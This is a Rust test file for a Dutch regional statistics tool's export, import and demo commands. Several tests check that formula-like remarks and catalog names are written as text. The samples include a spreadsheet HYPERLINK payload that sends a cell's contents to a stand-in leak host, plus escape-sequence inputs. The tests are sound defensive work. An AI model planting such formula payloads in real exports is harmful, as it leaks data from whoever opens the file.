//! `regio-in-beeld export` and `demo`: what scripts read from a fresh store with the demo data.

#[macro_use]
mod support;

use support::backends::Backend;
use support::{fixture, run, temp_store};

// What is read from the store; the tests below them are about a file (or no store at all).
on_both_backends!(
    zvh_dossiers_of_1_february_2023_export_exactly_as_published,
    small_counts_are_shielded_in_the_default_export,
    export_uses_dutch_periods_and_numbers_in_a_stable_order,
    json_export_carries_codes_and_numbers,
    unknown_indicator_is_refused_with_exit_code_1,
    remarks_that_look_like_formulas_are_exported_as_text_and_read_back_unchanged,
    a_remark_with_a_control_character_is_refused_with_file_row_and_column,
);

/// The demo store, made as `init` (or `server init`) and `demo` make it.
fn demo_store(backend: &Backend) -> &Backend {
    backend.init_demo();
    backend
}

/// The seed figures (copied from the region's published documents) for one indicator and period.
fn seed_rows(indicator: &str, period: &str) -> Vec<(String, String)> {
    let text = std::fs::read_to_string(fixture("seed-figures.csv")).unwrap();
    text.lines()
        .skip(1)
        .map(|line| line.split(';').collect::<Vec<_>>())
        .filter(|f| f[0] == indicator && f[2] == period)
        .map(|f| (f[1].to_string(), f[3].to_string()))
        .collect()
}

fn exported_rows(csv: &str, period: &str) -> Vec<(String, String, String)> {
    csv.lines()
        .skip(1)
        .map(|line| line.split(';').collect::<Vec<_>>())
        .filter(|f| f[2] == period)
        .map(|f| (f[1].to_string(), f[3].to_string(), f[4].to_string()))
        .collect()
}

fn zvh_dossiers_of_1_february_2023_export_exactly_as_published(backend: &Backend) {
    let store = demo_store(backend);
    let out = store.run(&[
        "export",
        "--indicator",
        "zvh_dossiers_in_behandeling",
        "--unshielded",
    ]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stdout
            .starts_with("indicator;gebied;periode;waarde;status;opmerking\n")
    );
    let exported: Vec<(String, String)> = exported_rows(&out.stdout, "2023-02-01")
        .into_iter()
        .map(|(area, value, _)| (area, value))
        .collect();
    let expected = seed_rows("zvh_dossiers_in_behandeling", "2023-02-01");
    assert_eq!(exported, expected);
    assert!(exported.contains(&("Zaanstad".into(), "45".into())));
    assert!(exported.contains(&("Purmerend".into(), "27".into())));
    assert!(exported.contains(&("Zaanstreek-Waterland".into(), "96".into())));
}

fn small_counts_are_shielded_in_the_default_export(backend: &Backend) {
    let store = demo_store(backend);
    let out = store.run(&["export", "--indicator", "zvh_dossiers_in_behandeling"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    let rows = exported_rows(&out.stdout, "2023-02-01");
    let row = |area: &str| rows.iter().find(|r| r.0 == area).cloned().unwrap();
    assert_eq!(
        row("Landsmeer"),
        ("Landsmeer".into(), "<5".into(), "afgeschermd".into())
    );
    assert_eq!(
        row("Waterland"),
        ("Waterland".into(), "6".into(), "definitief".into())
    );
    assert_eq!(row("Zaanstreek-Waterland").1, "96");
}

fn export_uses_dutch_periods_and_numbers_in_a_stable_order(backend: &Backend) {
    let store = demo_store(backend);
    let first = store.run(&["export"]);
    let second = store.run(&["export"]);
    assert_eq!(first.code, 0, "{}", first.stderr);
    assert_eq!(first.stdout, second.stdout);
    assert!(
        first
            .stdout
            .contains("\nveilig_thuis_meldingen;Edam-Volendam;2021 K1;")
    );
    assert!(first.stdout.contains("\nwmo_clienten;Zaanstad;2025 H2;"));
    assert!(first.stdout.contains(
        "\ngemeentelijke_bijdrage_zvh;Zaanstreek-Waterland;2024;298809;definitief;totaal\n"
    ));
    let percentage = first
        .stdout
        .lines()
        .find(|l| l.starts_with("zvh_aanmeldingen_binnen_twee_weken;Zaanstreek-Waterland;2021 K1;"))
        .unwrap();
    assert!(
        percentage.split(';').nth(3).unwrap().contains(','),
        "{percentage}"
    );

    let indicator_of = |line: &str| line.split(';').next().unwrap().to_string();
    let indicators: Vec<String> = first.stdout.lines().skip(1).map(indicator_of).collect();
    let mut sorted = indicators.clone();
    sorted.sort();
    assert_eq!(indicators, sorted, "grouped by indicator");
    let quarter_rows: Vec<&str> = first
        .stdout
        .lines()
        .filter(|l| l.starts_with("veilig_thuis_meldingen;"))
        .collect();
    assert_eq!(quarter_rows.len(), 20 * 8);
    assert!(quarter_rows[0].starts_with("veilig_thuis_meldingen;Edam-Volendam;2021 K1;"));
    assert!(quarter_rows[7].starts_with("veilig_thuis_meldingen;Zaanstreek-Waterland;2021 K1;"));
    assert!(quarter_rows[159].starts_with("veilig_thuis_meldingen;Zaanstreek-Waterland;2025 K4;"));
}

fn json_export_carries_codes_and_numbers(backend: &Backend) {
    let store = demo_store(backend);
    let out = store.run(&[
        "export",
        "--indicator",
        "gemeentelijke_bijdrage_zvh",
        "--format",
        "json",
    ]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    let rows: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    let zaanstad_2023 = rows
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["gebied_code"] == "GM0479" && r["periode"] == "2023")
        .unwrap();
    assert_eq!(zaanstad_2023["waarde"], 131_804.0);
    assert_eq!(zaanstad_2023["gebied"], "Zaanstad");
    assert_eq!(zaanstad_2023["status"], "definitief");
}

fn unknown_indicator_is_refused_with_exit_code_1(backend: &Backend) {
    let store = demo_store(backend);
    let out = store.run(&["export", "--indicator", "bestaat_niet"]);
    assert_eq!(out.code, 1);
    assert!(out.stdout.is_empty());
    assert!(
        out.stderr.contains("onbekende indicator 'bestaat_niet'"),
        "{}",
        out.stderr
    );
}

#[test]
fn usage_errors_exit_with_code_2() {
    let store = temp_store();
    assert_eq!(run(&store.path, &["export", "--format", "pdf"]).code, 2);
    assert_eq!(run(&store.path, &["bestaat-niet"]).code, 2);
}

#[test]
fn demo_fills_a_new_store_once_and_is_marked_as_demo() {
    let store = temp_store();
    let first = run(&store.path, &["demo"]);
    assert_eq!(first.code, 0, "{}", first.stderr);
    assert!(
        first.stdout.contains("Voorbeelddata geladen"),
        "{}",
        first.stdout
    );

    let again = run(&store.path, &["demo"]);
    assert_eq!(again.code, 1);
    assert!(
        again
            .stderr
            .contains("voorbeelddata wordt alleen in een lege database geladen"),
        "{}",
        again.stderr
    );

    let conn = rusqlite::Connection::open(&store.path).unwrap();
    let (kind, rows): (String, i64) = conn
        .query_row(
            "SELECT kind, rows FROM batches WHERE kind <> 'catalog'",
            [],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .unwrap();
    assert_eq!(kind, "demo");
    let observations: i64 = conn
        .query_row("SELECT count(*) FROM observations", [], |r| r.get(0))
        .unwrap();
    assert_eq!(rows, observations);
}

#[test]
fn the_store_is_created_where_db_points() {
    let store = temp_store();
    assert!(!store.path.exists());
    assert_eq!(
        run(&store.path, &["export", "--indicator", "inwoners"]).code,
        0
    );
    assert!(store.path.exists());
}

/// The remarks of `indicator` in a CSV export, by period (for Zaanstad).
fn csv_remarks(csv: &str, indicator: &str) -> Vec<(String, String, String)> {
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(csv.as_bytes());
    reader
        .records()
        .map(Result::unwrap)
        .filter(|r| &r[0] == indicator && &r[1] == "Zaanstad")
        .map(|r| (r[2].to_string(), r[3].to_string(), r[5].to_string()))
        .collect()
}

/// A remark typed by one user must never run as a formula when a colleague opens the export in
/// Excel: text starting with `=`, `+`, `-`, `@`, tab or carriage return (or `'`) is written with a
/// leading `'`, and reading the export back takes it off, so nothing changes.
fn remarks_that_look_like_formulas_are_exported_as_text_and_read_back_unchanged(backend: &Backend) {
    let store = demo_store(backend);
    let hyperlink = r#"=HYPERLINK("http://x.example/?leak="&A1,"klik")"#;
    // (remark in the file, remark as stored)
    let remarks = [
        (hyperlink, hyperlink),
        ("+1+1", "+1+1"),
        ("-2+3", "-2+3"),
        ("@SUM(A1)", "@SUM(A1)"),
        // A remark that starts with a tab, as an export writes it.
        ("'\t=1+1", "\t=1+1"),
        // A tab or line end in front of the text is trimmed, as ever; what follows is still text.
        ("\t@tab", "@tab"),
        ("\r=1+1", "=1+1"),
        // The CSV reader makes every line end a line feed, so a `'` before one stays.
        ("'\r=1+1", "'\n=1+1"),
        // A hand-written quote is the user's own text.
        ("'abc", "'abc"),
        ("''=x", "'=x"),
        ("gewoon", "gewoon"),
    ];
    let file = store.dir().join("formules.csv");
    let mut writer = csv::WriterBuilder::new()
        .delimiter(b';')
        .from_path(&file)
        .unwrap();
    writer
        .write_record([
            "indicator",
            "gebied",
            "periode",
            "waarde",
            "status",
            "opmerking",
        ])
        .unwrap();
    let periods: Vec<String> = (0..remarks.len())
        .map(|i| format!("{} K{}", 2010 + i / 4, i % 4 + 1))
        .collect();
    for ((remark, _), period) in remarks.iter().zip(&periods) {
        writer
            .write_record(["zvh_aanmeldingen", "Zaanstad", period, "12", "", remark])
            .unwrap();
    }
    // A negative number is a number, not text.
    writer
        .write_record([
            "gemeentelijke_bijdrage_zvh",
            "Zaanstad",
            "2010",
            "-2,5",
            "",
            "-correctie",
        ])
        .unwrap();
    writer.flush().unwrap();
    drop(writer);
    let imported = store.run(&["import", file.to_str().unwrap()]);
    assert_eq!(imported.code, 0, "{}", imported.stderr);

    // What is stored, as JSON shows it (no spreadsheet form there).
    let json = store.run(&[
        "export",
        "--indicator",
        "zvh_aanmeldingen",
        "--format",
        "json",
    ]);
    let rows: Vec<serde_json::Value> = serde_json::from_str(&json.stdout).unwrap();
    for ((_, stored), period) in remarks.iter().zip(&periods) {
        let row = rows
            .iter()
            .find(|r| r["gebied"] == "Zaanstad" && r["periode"] == period.as_str())
            .unwrap();
        assert_eq!(row["opmerking"], *stored, "{period}");
    }

    let export = store.run(&["export", "--unshielded"]);
    assert_eq!(export.code, 0, "{}", export.stderr);
    let exported = csv_remarks(&export.stdout, "zvh_aanmeldingen");
    for ((_, stored), period) in remarks.iter().zip(&periods) {
        let (_, value, cell) = exported.iter().find(|(p, _, _)| p == period).unwrap();
        assert_eq!(value, "12");
        if stored.starts_with(['=', '+', '-', '@', '\t', '\r', '\'']) {
            assert_eq!(*cell, format!("'{stored}"), "{period}");
        } else {
            assert_eq!(cell, stored, "{period}");
        }
    }
    assert_eq!(
        csv_remarks(&export.stdout, "gemeentelijke_bijdrage_zvh")
            .into_iter()
            .find(|(p, _, _)| p == "2010")
            .unwrap(),
        ("2010".into(), "-2,5".into(), "'-correctie".into())
    );

    // Reading the export back changes nothing: every remark comes back as stored.
    let again = store.dir().join("export.csv");
    std::fs::write(&again, &export.stdout).unwrap();
    let reimported = store.run(&["import", again.to_str().unwrap()]);
    assert_eq!(reimported.code, 0, "{}", reimported.stderr);
    assert!(
        reimported.stdout.contains(" 0 toegevoegd, 0 gewijzigd,")
            && reimported.stdout.contains("Er is niets gewijzigd"),
        "{}",
        reimported.stdout
    );
    assert_eq!(store.run(&["export", "--unshielded"]).stdout, export.stdout);
}

fn a_remark_with_a_control_character_is_refused_with_file_row_and_column(backend: &Backend) {
    let store = demo_store(backend);
    let before = store.run(&["export", "--unshielded"]).stdout;
    let file = store.dir().join("stuurteken.csv");
    std::fs::write(
        &file,
        "indicator;gebied;periode;waarde;status;opmerking\n\
         zvh_aanmeldingen;Zaanstad;2010 K1;12;;goed\n\
         zvh_aanmeldingen;Zaanstad;2010 K2;12;;bel\u{7}\n\
         zvh_aanmeldingen;Zaanstad;2010 K3;veel;;\u{1b}[31mrood\n",
    )
    .unwrap();
    let refused = store.run(&["import", file.to_str().unwrap()]);
    assert_eq!(refused.code, 1, "{}", refused.stdout);
    let name = file.display();
    for line in [
        format!(
            "{name}, rij 3, kolom opmerking: tekst bevat een stuurteken (U+0007) in veld 'opmerking'"
        ),
        format!("{name}, rij 4, kolom waarde: 'veel' is geen getal"),
        format!(
            "{name}, rij 4, kolom opmerking: tekst bevat een stuurteken (U+001B) in veld 'opmerking'"
        ),
    ] {
        assert!(refused.stderr.contains(&line), "{line}\n{}", refused.stderr);
    }
    assert_eq!(store.run(&["export", "--unshielded"]).stdout, before);
}

/// A copy of the shipped definitions with the name of `zvh_aanmeldingen` replaced.
fn catalog_naming_aanmeldingen(name: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let shipped = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("indicators");
    for entry in std::fs::read_dir(shipped).unwrap() {
        let path = entry.unwrap().path();
        let mut text = std::fs::read_to_string(&path).unwrap();
        if path.file_stem().unwrap() == "zvh_aanmeldingen" {
            let line = text.lines().find(|l| l.starts_with("name = ")).unwrap();
            text = text.replace(line, &format!("name = {}", toml_string(name)));
        }
        std::fs::write(dir.path().join(path.file_name().unwrap()), text).unwrap();
    }
    dir
}

/// `text` as a TOML basic string: control characters as `\uXXXX`, as TOML requires.
fn toml_string(text: &str) -> String {
    let mut out = String::from("\"");
    for c in text.chars() {
        match c {
            '\\' | '"' => {
                out.push('\\');
                out.push(c);
            }
            _ if c.is_control() => out.push_str(&format!("\\u{:04X}", u32::from(c))),
            _ => out.push(c),
        }
    }
    out.push('"');
    out
}

/// Catalog text in a workbook template is a string cell, whatever it starts with: never a formula.
#[test]
fn a_template_writes_catalog_text_as_text_not_as_a_formula() {
    use calamine::{Data, Reader, Xlsx, open_workbook};
    let store = temp_store();
    let name = "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"klik\")";
    let catalog = catalog_naming_aanmeldingen(name);
    let out = store.path.with_file_name("k1.xlsx");
    let written = run(
        &store.path,
        &[
            "--indicators",
            catalog.path().to_str().unwrap(),
            "template",
            "--period",
            "2026-K1",
            "--out",
            out.to_str().unwrap(),
        ],
    );
    assert_eq!(written.code, 0, "{}", written.stderr);
    let mut workbook: Xlsx<_> = open_workbook(&out).unwrap();
    // The sheet of zvh_aanmeldingen, named after the indicator: found by the id beside "Indicator".
    let cells = workbook
        .sheet_names()
        .iter()
        .map(|sheet| workbook.worksheet_range(sheet).unwrap())
        .find(|cells| {
            cells.get_value((0, 1)) == Some(&Data::String("zvh_aanmeldingen".to_string()))
        })
        .expect("a sheet for zvh_aanmeldingen");
    assert_eq!(
        cells.get_value((1, 0)),
        Some(&Data::String(name.to_string()))
    );
    for sheet in workbook.sheet_names() {
        let formulas = workbook.worksheet_formula(&sheet).unwrap();
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "{sheet} holds a formula"
        );
    }
}

/// A custom catalog is the one place indicator names come from: a control character there is named
/// with file and key.
#[test]
fn a_catalog_name_with_a_control_character_is_refused_with_file_and_key() {
    let store = temp_store();
    let catalog = catalog_naming_aanmeldingen("Aanmeldingen\u{7}");
    let dir = catalog.path().to_str().unwrap();
    let out = run(&store.path, &["check", "--indicators", dir]);
    assert_eq!(out.code, 1, "{}", out.stdout);
    let file = catalog.path().join("zvh_aanmeldingen.toml");
    assert!(
        out.stderr.contains(&format!(
            "{}: sleutel 'name': tekst bevat een stuurteken (U+0007)",
            file.display()
        )),
        "{}",
        out.stderr
    );
}
